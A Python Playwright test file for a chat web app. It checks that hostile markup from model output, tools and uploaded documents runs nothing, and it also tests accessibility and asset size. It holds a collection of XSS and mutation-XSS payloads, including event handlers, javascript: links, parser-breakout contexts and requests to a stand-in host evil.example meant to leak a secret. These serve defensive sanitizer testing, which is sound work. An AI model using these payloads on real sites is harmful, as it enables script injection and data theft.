"""Every screen: accessible, safe from the texts of models, and small."""

import json
import re
import time
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.fakes.vendor import streams
from tests.page.conftest import ASSETS, ask, axe_violations, expect_stored, open_screen
from tests.page.test_journeys import calls, status_of
from tests.support.time_limits import HANG_S

# Each attack that runs sets a property of its own, because the text itself may be shown anywhere, such as in the title.
HOSTILE = r"""<script>window.ranScript = 'yes'</script>
<img src=x onerror="window.ranImage='yes'"> <svg onload="window.ranSvg='yes'"></svg>
<iframe src="https://evil.example/frame"></iframe> <style>body{background:url(https://evil.example/css)}</style>

![leak](https://evil.example/leak.png?q=secret) [click](javascript:window.ranLink='yes') [data](data:text/html,<script>1</script>)

[ref]: javascript:window.ranReference='yes'
[ref] <a href="https://evil.example" onclick="window.ranClick='yes'">link</a> <https://evil.example/auto>

```html" onmouseover="window.ranHover='yes'
<script>window.ranCode = 'yes'</script>
```

$\href{javascript:window.ranFormula='yes'}{x}$ $$\includegraphics{https://evil.example/tex.png}$$

<math><mtext><table><mglyph><style><img src=x onerror="window.ranNested='yes'"></style></mglyph></table></mtext></math>
<form action="https://evil.example"><button formaction="javascript:window.ranForm='yes'">x</button></form>
| <b onclick=1> | `<img src=x>` |
|---|---|
| <object data="https://evil.example"></object> | <base href="https://evil.example/"> |
"""
DEAD = (
    "script, iframe, style, object, embed, base, .markdown img, .markdown svg, .markdown form, "
    "[onclick], [onerror], [onload], [onmouseover], a[href^='javascript:'], a[href^='data:']"
)
FIND = """(selector) => [...document.querySelectorAll(selector)]
    .filter((node) => node.closest(".message, .sidebar, .topbar"))
    .map((node) => node.outerHTML)"""
# With a property of its own, as a check of the check.
RAN = "(window.ranControl = 'yes', Object.keys(window).filter((name) => name.startsWith('ran')))"


def test_hostile_text_of_a_model_runs_nothing_and_asks_no_other_host(ada, vendor):
    vendor.script = streams(*re.findall(r".{1,40}", HOSTILE, re.DOTALL))
    tab = ada.open()
    ask(tab, HOSTILE)
    expect_stored(tab, 1)
    expect(tab.locator(".math:not(.is-invalid, :has(math))")).to_have_count(0)
    tab.wait_for_timeout(1000)

    assert tab.evaluate(FIND, DEAD) == []
    assert tab.evaluate(RAN) == ["ranControl"]


FIXTURES = Path(__file__).with_name("hostile_html.json")
# Places whose text a parser reads in another way than a sanitizer may expect, so that markup appears only after it: `{}` is an attack.
CONTEXTS = (
    "<svg><style>{}</style></svg>", "<math><style>{}</style></math>", "<noscript><p title='</noscript>{}'>", "<xmp><p title='</xmp>{}'>",
    "<textarea><p title='</textarea>{}'>", "<title><p title='</title>{}'>", "<noembed><p title='</noembed>{}'>", "<!--><p title='-->{}'>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>", "<svg><desc><table><td>{}</table></desc></svg>",
    "<math><mi><mglyph><svg><mtext><textarea><a title='</textarea>{}'>", "<template><div>{}</div></template>",
    "<select><option>{}</option></select>", "<form><math><mtext></form><form><mglyph><style></math>{}", "<![CDATA[ ]]>{}",
    "[x](https://a.example \"'>{}\")", "![{}](https://a.example/i.png)", "| a |\n|---|\n| {} |", "> - 1. {}",
    "```{}\nx\n```", "$\\text{{{}}}$",
)  # fmt: skip
RUNS = (
    "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>", "<script>window.pwned=1</script>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<details open ontoggle=window.pwned=1>", "<img src=https://evil.example/i.png>",
    "<style>@import 'https://evil.example/s.css'</style>", "<input autofocus onfocus=window.pwned=1>",
    "<video src=x onerror=window.pwned=1></video>",
)  # fmt: skip


def hostile_fragments():
    """Return the stored fragments, and every attack in every context."""
    return json.loads(FIXTURES.read_text()) + [context.format(attack) for context in CONTEXTS for attack in RUNS]


def test_hostile_fragments_in_every_place_run_nothing(ada, vendor):
    fragments = json.loads(FIXTURES.read_text())
    vendor.script = streams(*(f"{fragment}\n\n" for fragment in fragments))
    made = ada.context.request.post(f"{ada.url}/conversations", data={"title": fragments[0]}, headers=ada.headers).json()
    for fragment in fragments[:10]:
        ada.context.request.post(f"{ada.url}/memories", data={"text": fragment[:1000]}, headers=ada.headers)
    tab = ada.open(f"#/c/{made['id']}")
    ask(tab, "\n".join(fragments)[:30_000])
    expect_stored(tab, 1)
    tab.goto(f"{ada.url}/#/memory")
    expect(tab.locator(".card").first).to_be_visible()

    assert tab.evaluate("window.pwned === undefined")


@pytest.fixture
def hostile_document(ada):
    """A document of the user, whose title and text are hostile."""
    text = "The leave of employees is thirty days.\n\n" + "\n\n".join(hostile_fragments()[::4])
    form = {"title": RUNS[0], "file": {"name": "leave.txt", "mimeType": "text/plain", "buffer": text.encode()}}
    made = ada.context.request.post(f"{ada.url}/documents", multipart=form, headers=ada.headers).json()
    ends = time.monotonic() + HANG_S
    while time.monotonic() < ends and status_of(ada, made["id"]) != "ready":
        time.sleep(0.2)


@pytest.mark.usefixtures("hostile_document")
def test_hostile_texts_of_tools_and_documents_run_nothing(ada, vendor):
    answers = [calls("calculator", {"expression": RUNS[0], RUNS[1]: RUNS[2]}), streams("Thirty days [1].")]
    vendor.script = lambda handler: answers.pop(0)(handler)
    tab = ada.open()
    tab.get_by_role("button", name="Documents", exact=True).click()
    ask(tab, "How many days is the leave of employees?")
    expect_stored(tab, 1)
    tab.locator(".tool summary").click()
    tab.locator("button.citation").first.click()
    expect(tab.get_by_role("dialog").locator("mark")).to_contain_text("thirty days")

    assert tab.evaluate("window.pwned === undefined")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_every_screen_is_accessible(ada, vendor, scheme, width):
    vendor.script = streams(
        "# Title\n\nA **bold** word, `code` and a [link](https://example.com).\n\n```python\nprint(1)\n```\n\n| a | b |\n|-|-|\n| 1 | 2 |"
    )
    tab = ada.open()
    tab.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    tab.set_viewport_size({"width": width, "height": 800})
    tab.locator(".welcome").wait_for()
    found = {"welcome": axe_violations(tab)}
    ask(tab, "Hello?")
    expect_stored(tab, 1)
    expect(tab.locator(".hljs-built_in, .hljs-number").first).to_be_visible()
    found["chat"] = axe_violations(tab)
    for screen, heading in SCREENS.items():
        open_screen(tab, f"{ada.url}/#/{screen}", heading=heading)
        found[screen] = axe_violations(tab)

    assert {name: broken for name, broken in found.items() if broken} == {}


SCREENS = {
    "documents": "Documents",
    "memory": "Memory",
    "groups": "Groups",
    "prompts": "Prompts",
    "settings/profile": "Profile",
    "settings/appearance": "Appearance",
    "settings/usage": "Usage",
    "settings/tools": "Tools",
    "settings/schedules": "Scheduled prompts",
    "settings/webhooks": "Web hooks",
    "settings/keys": "API keys",
    "settings/security": "Security",
    "settings/data": "Your data",
}


@pytest.mark.parametrize("screen", ["sign-in", "register", "reset"])
def test_the_screens_before_a_session_are_accessible(visitor, screen):
    tab = visitor.open(f"#/{screen}")
    expect(tab.locator("h1")).to_be_visible()

    assert axe_violations(tab) == []


def compressed(name):
    """Return the size of a file as a browser receives it."""
    path = ASSETS / f"{name}.br"
    return (path if path.is_file() else ASSETS / name).stat().st_size


def test_little_is_loaded_before_a_person_can_type():
    document = (ASSETS / "index.html").read_text()
    first = ["index.html", *re.findall(r'assets/([^"]+)"', document)]
    every = [path.name for path in ASSETS.iterdir() if path.suffix in (".html", ".js", ".css")]

    assert len(first) > 2
    assert sum(map(compressed, first)) <= 120_000
    assert sum(map(compressed, every)) <= 200_000
